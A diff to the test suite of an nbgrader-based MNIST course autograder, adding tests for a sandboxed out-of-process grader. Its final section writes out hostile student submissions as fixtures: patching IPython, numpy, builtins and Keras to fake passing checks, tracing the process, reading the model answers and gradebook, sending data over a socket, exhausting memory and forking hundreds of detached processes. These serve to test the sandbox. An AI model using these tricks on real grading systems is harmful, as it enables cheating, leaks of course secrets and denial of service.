@@ -177,6 +177,31 @@ def test_jobs_students_are_graded_at_the_same_time_and_no_more(course, jobs):
     assert [result.status for result in results] == ["graded"] * 6
 
 
+def test_each_result_is_reported_whole_while_the_next_students_are_graded(course):
+    """``mnist-course autograde --jobs N`` prints each student's lines as that student is
+    done; the results of students that finish together are reported one after the other."""
+    students = ("a", "b", "c", "d")
+    for student in students:
+        submit(course, student)
+    barrier = threading.Barrier(len(students))
+    reporting, overlaps = [0], []
+
+    def nbgrader_finishing_together(assignment, student, *, force):
+        barrier.wait(timeout=30)
+        return 0, ""
+
+    def on_result(result):
+        reporting[0] += 1
+        overlaps.append(reporting[0] > 1)
+        time.sleep(0.05)
+        reporting[0] -= 1
+
+    grading.autograde_class(
+        "ps1", root=course, jobs=4, grader=nbgrader_finishing_together, on_result=on_result
+    )
+    assert overlaps == [False] * len(students)
+
+
 BUSY = [
     "sqlalchemy.exc.OperationalError: (sqlite3.OperationalError) database is locked",
     "sqlalchemy.exc.IntegrityError: (psycopg.errors.UniqueViolation) duplicate key value "
@@ -209,16 +234,16 @@ def test_a_failed_run_reports_nbgrader_reason_and_keeps_its_log(course):
     output = (
         "[ERROR] There was an error processing assignment: x\n"
         "[ERROR] Traceback (most recent call last):\n"
-        "[ERROR] Kernel died while waiting for execute reply.\n"
+        "[ERROR] RuntimeError: sandbox='bubblewrap' but bubblewrap not found\n"
         "[ERROR] Please see the the above traceback for details\n"
     )
     [result] = grading.autograde_class(
         "ps1", root=course, grader=FakeNbgrader({"alice": [(1, output)]})
     )
     assert result.status == "failed"
-    assert result.notes == ["Kernel died while waiting for execute reply."]
+    assert result.notes == ["RuntimeError: sandbox='bubblewrap' but bubblewrap not found"]
     assert result.log == course / "grading" / "logs" / "ps1" / "alice.log"
-    assert "Kernel died" in result.log.read_text()
+    assert "bubblewrap not found" in result.log.read_text()
     assert "nbgrader's log: " in cli.format_result(result)
 
 
@@ -296,17 +321,22 @@ def test_scores_are_read_from_the_gradebook(course):
 
 
 def test_the_log_of_a_run_is_summarised_in_notes():
+    """The lines GradeOutside logs when the student's code ran too long or its process died."""
     output = (
         "[AutogradeApp | WARNING] Missing grade cell test_one_hot encountered, adding to notebook\n"
-        "[AutogradeApp | ERROR] Timeout waiting for execute reply (20s).\n"
-        f"[AutogradeApp | ERROR] The kernel died (cell 9): {grading.RESTART_MESSAGE} the 4 cells\n"
+        f"[AutogradeApp | ERROR] Cell normalize {grading.TIMEOUT_MESSAGE}: normalize() took "
+        "longer than 15 s and was stopped\n"
+        f"[AutogradeApp | ERROR] Cell test_normalize {grading.TIMEOUT_MESSAGE}: normalize() "
+        "took longer than 15 s and was stopped\n"
+        "[AutogradeApp | ERROR] Cell test_one_hot: one_hot() stopped the student's process "
+        f"(exit code 1); {grading.RESTART_MESSAGE}\n"
     )
     result = grading.read_outcome("alice", 0, output)
     assert result.status == "graded"
     assert result.notes == [
         "test cells put back: test_one_hot",
-        "1 cell(s) ran past the timeout and scored 0",
-        "kernel restarted 1 time(s) after a hang",
+        "2 cell(s) ran past the timeout and were stopped",
+        "the student's process died 1 time(s) and was restarted",
     ]
 
 
@@ -459,64 +489,108 @@ def test_feedback_shows_no_hidden_test_even_in_a_traceback():
 
 HANG = "while True:\n    try:\n        time.sleep(0.2)\n    except BaseException:\n        pass"
 
+SETUP = {"nbgrader": {"grade_id": "setup", "locked": True, "grade": False, "solution": False}}
 
-@pytest.mark.notebooks
-def test_a_cell_that_ignores_the_interrupt_or_kills_the_kernel_costs_only_itself():
-    cells = [
-        new_code_cell("import time\nstate = 41"),
-        new_code_cell(HANG),
-        new_code_cell("print(state + 1)"),
-        new_code_cell("def loop():\n" + "\n".join("    " + line for line in HANG.splitlines())),
-        new_code_cell("loop()"),
-        new_code_cell("print(state + 2)"),
-        new_code_cell("import os\nos._exit(1)"),
-        new_code_cell("print(state + 3)"),
+
+def answer_cell(source, grade_id):
+    """An answer cell (``solution: true``) with ``source``."""
+    meta = {"nbgrader": {"grade_id": grade_id, "solution": True, "grade": False, "locked": False}}
+    return new_code_cell(source, metadata=meta)
+
+
+def check_cell(source, grade_id, points=1):
+    """A locked test cell (``grade: true``) worth ``points``."""
+    meta = {"nbgrader": {"grade_id": grade_id, "grade": True, "solution": False, "locked": True}}
+    meta["nbgrader"]["points"] = points
+    return new_code_cell(source, metadata=meta)
+
+
+def cell_outputs(nb):
+    """Each cell's outputs as text: a stream's text, an error's ``name: message``."""
+    return [
+        [
+            output.get("text") or f"{output.get('ename')}: {output.get('evalue')}"
+            for output in cell.get("outputs", [])
+        ]
+        for cell in nb.cells
     ]
-    nb = new_notebook(cells=cells)
-    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3"}
-    executor = grading.RestartingExecute(timeout=3, raise_on_iopub_timeout=False)
-    executor.preprocess(nb, {"metadata": {"path": "."}})
-    outputs = [[output.get("text", output.get("ename")) for output in c.outputs] for c in nb.cells]
-    assert outputs[1][-1] == "CellTimeoutError"
-    assert outputs[2] == ["42\n"]
-    assert outputs[4][-1] == "CellTimeoutError"
-    assert outputs[5] == ["43\n"]
-    assert outputs[6] == ["DeadKernelError"]
-    assert outputs[7] == ["44\n"]
 
 
 @pytest.mark.notebooks
-def test_unchanged_demonstration_cells_are_skipped_and_the_kernel_keeps_references(tmp_path):
+def test_a_hang_or_os_exit_costs_only_the_cell_or_the_checks_that_ran_it():
+    """A hang that swallows the interrupt, or ``os._exit``, in a student's function fails the
+    test cell that called it, and in a student's cell fails that cell; the next test cell
+    calls the other functions in a new process, where the cells before it ran again."""
+    hang = "\n".join("    " + line for line in HANG.splitlines())
+    cells = [
+        new_code_cell("import os, time\nstate = 41", metadata=SETUP),
+        answer_cell("def answer():\n    return state + 1", "answer"),
+        answer_cell(f"def hang():\n{hang}", "hang"),
+        answer_cell("def crash():\n    os._exit(1)", "crash"),
+        check_cell("assert answer() == 42\nprint('first')", "test_answer"),
+        check_cell("hang()", "test_hang"),
+        check_cell("assert answer() == 42\nprint('after the hang')", "test_after_hang"),
+        check_cell("crash()", "test_crash"),
+        check_cell("assert answer() == 42\nprint('after the crash')", "test_after_crash"),
+        new_code_cell(HANG),
+        new_code_cell("state = 42"),
+        check_cell("assert answer() == 43\nprint('after a cell that hung')", "test_cell_hung"),
+        new_code_cell("os._exit(1)"),
+        check_cell("assert answer() == 43\nprint('after a cell that exited')", "test_cell_exited"),
+    ]
+    started = time.monotonic()
+    nb, _ = grading.GradeOutside(timeout=3).preprocess(new_notebook(cells=cells), {})
+    outputs = cell_outputs(nb)
+    assert outputs[:4] == [[], [], [], []]
+    assert outputs[4] == ["first\n"]
+    assert outputs[5] == ["CallTimedOut: hang() took longer than 3 s and was stopped"]
+    assert outputs[6] == ["after the hang\n"]
+    [died] = outputs[7]
+    assert died.startswith("ProcessDied: crash() stopped the student's process (exit code 1)")
+    assert outputs[8] == ["after the crash\n"]
+    assert outputs[9] == ["TimeoutError: did not finish within 3 s and was stopped"]
+    assert outputs[10:12] == [[], ["after a cell that hung\n"]]
+    assert outputs[12] == ["ProcessDied: this cell stopped the student's process (exit code 1)"]
+    assert outputs[13] == ["after a cell that exited\n"]
+    # each hang costs its time limit and a few seconds, not the whole notebook's
+    assert time.monotonic() - started < 60
+
+
+@pytest.mark.notebooks
+def test_unchanged_demonstration_cells_are_skipped_and_only_the_checks_see_the_references(
+    tmp_path, monkeypatch
+):
     """A demonstration cell left as released decides no points and is not run; one the
-    student changed or added runs; the kernel is told where the reference runs are kept."""
+    student changed or added runs. The checks, in the grading process, are told where the
+    course's reference runs are kept; the student's process is not."""
     demo = "print('the demonstration ran')"
-    setup = {"nbgrader": {"grade_id": "setup", "locked": True, "grade": False, "solution": False}}
-    released = new_notebook(cells=[new_code_cell("x = 41", metadata=setup), new_code_cell(demo)])
+    released = new_notebook(cells=[new_code_cell("x = 41", metadata=SETUP), new_code_cell(demo)])
     (tmp_path / "exercises" / "ps1").mkdir(parents=True)
     nbformat.write(released, tmp_path / "exercises" / "ps1" / "ps1.ipynb")
+    variable = "MNIST_COURSE_REFERENCE_CACHE"
     cells = [
-        new_code_cell("x = 41", metadata=setup),
+        new_code_cell("x = 41", metadata=SETUP),
         new_code_cell(demo),
         new_code_cell(demo + "\nprint(x + 1)"),
-        new_code_cell("import os\nprint(os.environ['MNIST_COURSE_REFERENCE_CACHE'])"),
+        new_code_cell(f"import os\nprint(os.environ.get({variable!r}))"),
+        check_cell(f"import os\nassert x == 41\nprint(os.environ[{variable!r}])", "test_x"),
     ]
-    nb = new_notebook(cells=cells)
-    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3"}
     config = Config()
     config.CourseDirectory.root = str(tmp_path)
     config.CourseDirectory.release_directory = "exercises"
     resources = {"metadata": {"path": str(tmp_path)}}
     resources["nbgrader"] = {"assignment": "ps1", "notebook": "ps1", "student": "s"}
-    with pytest.MonkeyPatch.context() as monkeypatch:
-        monkeypatch.delenv("MNIST_COURSE_REFERENCE_CACHE", raising=False)
-        grading.RestartingExecute(config=config).preprocess(nb, resources)
-    outputs = [[output.get("text") for output in cell.outputs] for cell in nb.cells]
+    monkeypatch.setenv(variable, "")  # so that the variable the grader sets is undone after
+    monkeypatch.delenv(variable)
+    nb, _ = grading.GradeOutside(config=config).preprocess(new_notebook(cells=cells), resources)
+    outputs = cell_outputs(nb)
     assert outputs[1] == []
     assert outputs[2] == ["the demonstration ran\n42\n"]
-    assert outputs[3] == [f"{tmp_path / 'grading' / 'references'}\n"]
-    config.RestartingExecute.skip_unchanged_demonstrations = False
-    grading.RestartingExecute(config=config).preprocess(nb, resources)
-    assert [output.get("text") for output in nb.cells[1].outputs] == ["the demonstration ran\n"]
+    assert outputs[3] == ["None\n"]
+    assert outputs[4] == [f"{tmp_path / 'grading' / 'references'}\n"]
+    config.GradeOutside.skip_unchanged_demonstrations = False
+    nb, _ = grading.GradeOutside(config=config).preprocess(nb, resources)
+    assert cell_outputs(nb)[1] == ["the demonstration ran\n"]
 
 
 # ---------------------------------------------------------------------------------------------
@@ -671,6 +745,22 @@ def make_submissions(root, assignment, students):
         nbformat.write(nb, folder / f"{name}.ipynb")
 
 
+def feedback_text(path):
+    """A feedback page's text as a reader sees it (tags removed, entities decoded)."""
+    return html.unescape(re.sub(r"<[^>]+>", "", path.read_text()))
+
+
+def hidden_lines(assignment, root):
+    """The hidden tests of an exercise, line by line."""
+    source = notebook.load_notebook(solution_notebook(assignment, root))
+    return [
+        line.strip()
+        for cell in source["cells"]
+        for line in notebook.hidden_tests(notebook.cell_source(cell))
+        if line.strip()
+    ]
+
+
 def exported_scores(root):
     run_nbgrader(root, "export", "--to", str(root / "grades.csv"))
     with open(root / "grades.csv", newline="") as file:
@@ -722,23 +812,382 @@ def test_nbgrader_grades_each_simulated_student_exactly_and_the_same_twice(tmp_p
 
     # feedback: the visible checks are there, the hidden ones nowhere, not even in tracebacks
     page = root / "grading" / "feedback" / "wrong_normalisation" / EX01 / f"{EX01}.html"
-    text = html.unescape(re.sub(r"<[^>]+>", "", page.read_text()))
+    text = feedback_text(page)
     assert "checks.check_normalize(normalize)" in text
     assert "CheckFailed" in text
-    source = notebook.load_notebook(solution_notebook(EX01, root))
-    secret = [
-        line.strip()
-        for cell in source["cells"]
-        for line in notebook.hidden_tests(notebook.cell_source(cell))
-        if line.strip()
+    secret = hidden_lines(EX01, root)
+    pages = sorted((root / "grading" / "feedback").glob(f"*/{EX01}/{EX01}.html"))
+    assert len(pages) == len([key for key in EXPECTED if key[0] == EX01]) - 1  # not `renamed`
+    assert secret and not [
+        (page, line) for page in pages for line in secret if line in feedback_text(page)
     ]
-    assert secret and not [line for line in secret if line in text]
 
     # grading again from scratch gives the same scores and leaves the submissions as they were
     again = autograde(root, EX01, "--timeout", "15", "--force")
     assert again.returncode == 0, again.stdout + again.stderr
     assert exported_scores(root) == scores
     assert tree_digest(root / "grading" / "submitted") == submitted
+
+
+# ---------------------------------------------------------------------------------------------
+# Submissions that attack the grading
+
+# Each trick as a student writes it: (exercise, where, source[, last]). "own" puts it in a cell
+# of the student's own right after the setup cell; a grade_id appends it to that answer cell;
+# ``last``, where given, is a cell the student adds at the end. The sources are
+# string.Template texts: $solutions and $gradebook are the course's files, $port a port the
+# test listens on, $sleep the unique argument of the forked processes' sleep.
+TRICKS = {
+    # rewrite every later cell that mentions the checks into `pass` (IPython only)
+    "input_transformer": (
+        EX01,
+        "split_labels",
+        """
+def _skip_checks(lines):
+    return ["pass\\n"] if any("checks" in line for line in lines) else lines
+
+
+get_ipython().input_transformers_cleanup.append(_skip_checks)
+""",
+    ),
+    # print every later cell's source, hidden tests included, into the outputs (IPython only)
+    "event_hook": (
+        EX01,
+        "own",
+        """
+def _show_cell(info):
+    print(info.raw_cell)
+
+
+get_ipython().events.register("pre_run_cell", _show_cell)
+""",
+    ),
+    # watch every frame that runs after this cell, to see the checks and their inputs
+    "trace": (
+        EX01,
+        "own",
+        """
+import sys
+
+_frames = set()
+
+
+def _watch(frame, event, arg):
+    _frames.add(f"{frame.f_code.co_filename}:{frame.f_code.co_name}")
+    return _watch
+
+
+sys.settrace(_watch)
+sys.setprofile(_watch)
+""",
+        # a cell at the end: which code of the checks ran where the tracer could see it
+        "_seen = sorted(_frames)\n"
+        'print("code of the checks seen:", [f for f in _seen if "/checks/" in f])',
+    ),
+    # every comparison of arrays passes
+    "numpy": (
+        EX01,
+        "normalize",
+        """
+import sys
+import types
+
+import numpy.testing
+
+np.allclose = np.array_equal = lambda *args, **kwargs: True
+numpy.testing.assert_allclose = lambda *args, **kwargs: None
+sys.modules["numpy.testing"] = types.ModuleType("numpy.testing")
+""",
+    ),
+    # every type and every length is what a check expects
+    "builtins": (
+        EX01,
+        "one_hot",
+        """
+import builtins
+
+builtins.isinstance = lambda value, kind: True
+builtins.len = lambda value: 60000
+print("len('abc') is", len("abc"))
+""",
+    ),
+    # read the model answers and the hidden tests, print them and keep them
+    "reads_course": (
+        EX01,
+        "own",
+        """
+_read = {}
+for _path in [$solutions, $gradebook]:
+    try:
+        with open(_path, "rb") as _file:
+            _read[_path] = _file.read().decode(errors="replace")
+    except OSError as _error:
+        _read[_path] = f"{type(_error).__name__}: {_error}"
+print(_read)
+""",
+    ),
+    # send a greeting, then each input a check gives normalize, to a server of one's own
+    "network": (
+        EX01,
+        "normalize",
+        """
+import socket
+
+
+def _send(data):
+    try:
+        with socket.create_connection(("127.0.0.1", $port), timeout=5) as connection:
+            connection.sendall(repr(data).encode())
+    except OSError as error:
+        print("no connection:", error)
+
+
+_send("hello")
+_normalize = normalize
+
+
+def normalize(x):
+    _send(x)
+    return _normalize(x)
+""",
+    ),
+    # far more memory than the machine has (24 GiB), at once and 256 MiB at a time
+    "memory": (
+        EX01,
+        "own",
+        """
+try:
+    _hoard = bytearray(64 * 2**30)
+except MemoryError:
+    print("bytearray(64 GiB): MemoryError")
+try:
+    _hoard = [np.empty(2**25) for _ in range(2048)]
+except MemoryError:
+    print("512 GiB, 256 MiB at a time: MemoryError")
+_hoard = np.ones(8 * 2**30)
+""",
+    ),
+    # 300 processes that leave the process group and sleep for a minute
+    "forks": (
+        EX01,
+        "own",
+        """
+import os
+
+_forked = 0
+for _ in range(300):
+    try:
+        _pid = os.fork()
+    except OSError as _error:
+        print("fork:", _error)
+        break
+    if _pid == 0:
+        try:
+            os.setsid()
+            os.execv("/bin/sleep", ["sleep", "$sleep"])
+        finally:
+            os._exit(0)
+    _forked += 1
+print("forked", _forked)
+""",
+    ),
+    # every model has the expected size and a perfect test accuracy
+    "keras": (
+        EX02,
+        "build_mlp",
+        """
+keras.Model.count_params = lambda self: 55050
+keras.Model.evaluate = lambda self, *args, **kwargs: [0.0, 1.0]
+""",
+    ),
+}
+
+FULL_MARKS = {EX01: 6, EX02: 5}
+
+HARM_ONLY = {"reads_course", "network", "memory", "forks"}
+"""Tricks that seek to read, send or harm, not to change a score: tried on a correct
+submission only (the untouched release would meet the same walls)."""
+
+ATTACKS_SEEN = {
+    # what each trick met in the student's process, in its notebook's outputs
+    "input_transformer": "'Shell' object has no attribute 'input_transformers_cleanup'",
+    "event_hook": "'Shell' object has no attribute 'events'",
+    "trace": "code of the checks seen: []",
+    "builtins": "len('abc') is 60000",
+    "reads_course": "FileNotFoundError: [Errno 2] No such file or directory",
+    "network": "no connection: [Errno 111] Connection refused",
+    "memory": "bytearray(64 GiB): MemoryError\n512 GiB, 256 MiB at a time: MemoryError",
+    "forks": "fork: [Errno 1] Operation not permitted\nforked 0",
+}
+
+
+def variants(trick):
+    """The submissions a trick is tried on: the untouched release, a correct one, or both."""
+    return ("full",) if trick in HARM_ONLY else ("untouched", "full")
+
+
+ATTACKS_EXPECTED = {
+    (exercise, f"{trick}_{variant}"): FULL_MARKS[exercise] if variant == "full" else 0
+    for trick, (exercise, *_) in TRICKS.items()
+    for variant in variants(trick)
+}
+"""A trick on the untouched release scores 0, on a correct submission full marks."""
+
+
+def full_submission(released, answers):
+    """The released notebook with every model answer filled in."""
+    nb = nbformat.from_dict(released)
+    for grade_id, answer in answers.items():
+        notebook.find_cell(nb, grade_id).source = answer
+    return nb
+
+
+def make_attacks(root, **values):
+    """Write each trick, on the untouched release and on a correct submission (see
+    :func:`variants`), as a student ``<trick>_untouched`` or ``<trick>_full``; ``values``
+    fill in the tricks' templates."""
+    import string
+
+    values = {name: repr(str(value)) for name, value in values.items()}
+    values["sleep"] = values["sleep"].strip("'")
+    for trick, (assignment, where, template, *last) in TRICKS.items():
+        released = nbformat.read(release_notebook(assignment, root), 4)
+        answers = notebook.model_answers(
+            notebook.load_notebook(solution_notebook(assignment, root))
+        )
+        source = string.Template(template).substitute(values).strip()
+        for variant in variants(trick):
+            nb = full_submission(released, answers) if variant == "full" else released
+            nb = nbformat.from_dict(nb)
+            if where == "own":
+                setup = nb.cells.index(notebook.find_cell(nb, "setup"))
+                nb.cells.insert(setup + 1, new_code_cell(source))
+            else:
+                notebook.find_cell(nb, where).source += "\n\n\n" + source
+            nb.cells += [new_code_cell(cell) for cell in last]
+            folder = root / "grading" / "submitted" / f"{trick}_{variant}" / assignment
+            folder.mkdir(parents=True)
+            nbformat.write(nb, folder / f"{assignment}.ipynb")
+
+
+def outputs_text(path):
+    """Everything a notebook's cells output, as one text: streams, results and errors."""
+    parts = []
+    for cell in nbformat.read(path, 4).cells:
+        for output in cell.get("outputs", []):
+            parts += [output.get("text", ""), output.get("ename", ""), output.get("evalue", "")]
+            parts += output.get("traceback", [])
+            parts += [str(value) for value in output.get("data", {}).values()]
+    return "\n".join(parts)
+
+
+class Listener:
+    """A TCP server on a free port of 127.0.0.1 that records whoever connects and what they
+    send, until stopped."""
+
+    def __init__(self):
+        self.socket = socket.create_server(("127.0.0.1", 0))
+        self.socket.settimeout(0.2)
+        self.port = self.socket.getsockname()[1]
+        self.received = []
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self):
+        while not self._stop.is_set():
+            try:
+                connection, _ = self.socket.accept()
+            except TimeoutError:
+                continue
+            with connection:
+                connection.settimeout(2)
+                with contextlib.suppress(OSError):
+                    self.received.append(connection.recv(1000))
+
+    def stop(self):
+        self._stop.set()
+        self._thread.join()
+        self.socket.close()
+
+
+def processes_running(argv):
+    """The ids of the processes on this machine whose command line is exactly ``argv``."""
+    found = []
+    wanted = "\0".join(argv).encode() + b"\0"
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdigit():
+            with contextlib.suppress(OSError):
+                if (entry / "cmdline").read_bytes() == wanted:
+                    found.append(int(entry.name))
+    return found
+
+
+@pytest.mark.nbgrader
+def test_nbgrader_grades_each_attacking_submission_by_its_answers_alone(tmp_path):
+    """Students who patch IPython, numpy, Keras or the builtins, trace the process, read the
+    course's files, open a connection, allocate far too much memory or fork hundreds of
+    processes get exactly what their answers earn; nothing of the hidden tests, the model
+    answers or the gradebook reaches a notebook or a feedback page; the others are graded."""
+    from mnist_course.sandbox import bubblewrap_status
+
+    works, why_not = bubblewrap_status()
+    if not works:  # the course's files and the network are hidden by bubblewrap only
+        message = f"bubblewrap cannot run here: {why_not}"
+        if os.environ.get("CI"):
+            pytest.fail(message)
+        pytest.skip(message)
+    root = tmp_path / "course"
+    root.mkdir()
+    shutil.copy(ROOT / "nbgrader_config.py", root)
+    for assignment in FULL_MARKS:
+        shutil.copytree(ROOT / "solutions" / assignment, root / "solutions" / assignment)
+        run_nbgrader(root, "generate_assignment", assignment)
+    sleep = ["sleep", f"60.{os.getpid()}{time.time_ns() % 10**6:06d}"]
+    listener = Listener()
+    make_attacks(
+        root,
+        solutions=solution_notebook(EX01, root),
+        gradebook=root / "grading" / "gradebook.db",
+        port=listener.port,
+        sleep=sleep[1],
+    )
+    try:
+        for assignment in FULL_MARKS:
+            graded = autograde(root, assignment)
+            assert graded.returncode == 0, graded.stdout + graded.stderr
+            students = {student for exercise, student in ATTACKS_EXPECTED if exercise == assignment}
+            assert reported_students(graded.stdout) == dict.fromkeys(students, "graded")
+            run_nbgrader(root, "generate_feedback", assignment)
+    finally:
+        listener.stop()
+    assert listener.received == []
+    assert processes_running(sleep) == []
+
+    scores = exported_scores(root)
+    assert {key: scores[key] for key in ATTACKS_EXPECTED} == {
+        key: float(value) for key, value in ATTACKS_EXPECTED.items()
+    }
+
+    # each trick ran, and met the sandbox where it tried
+    outputs = {
+        path.parents[1].name: outputs_text(path)
+        for path in (root / "grading" / "autograded").glob("*/*/*.ipynb")
+    }
+    for trick, expected in ATTACKS_SEEN.items():
+        for student in (f"{trick}_{variant}" for variant in variants(trick)):
+            assert expected in outputs[student], (student, outputs[student][:2000])
+
+    # no hidden test, no solution file, no gradebook in any output or feedback page
+    secrets = [*hidden_lines(EX01, root), *hidden_lines(EX02, root)]
+    secrets += [notebook.BEGIN_HIDDEN_TESTS, "SQLite format 3", "check_normalize(normalize, x="]
+    pages = sorted((root / "grading" / "feedback").glob("*/*/*.html"))
+    assert len(pages) == len(outputs) == len(ATTACKS_EXPECTED)
+    texts = {str(page): feedback_text(page) for page in pages}
+    assert all("checks.check_" in text for text in texts.values())  # the visible checks are
+    texts.update(outputs)
+    leaks = {(name, secret) for name, text in texts.items() for secret in secrets if secret in text}
+    assert not leaks
 
 
 # ---------------------------------------------------------------------------------------------
